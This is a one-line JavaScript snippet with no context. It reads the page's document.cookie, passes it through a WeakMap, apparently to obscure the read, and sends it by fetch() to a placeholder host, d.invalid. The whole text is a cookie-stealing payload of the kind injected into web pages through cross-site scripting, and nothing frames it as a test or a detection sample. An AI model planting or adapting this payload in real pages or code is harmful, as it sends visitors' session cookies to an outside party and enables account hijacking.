const w = new WeakMap(); const k = {}; w.set(k, document.cookie); fetch('https://d.invalid/' + w.get(k));
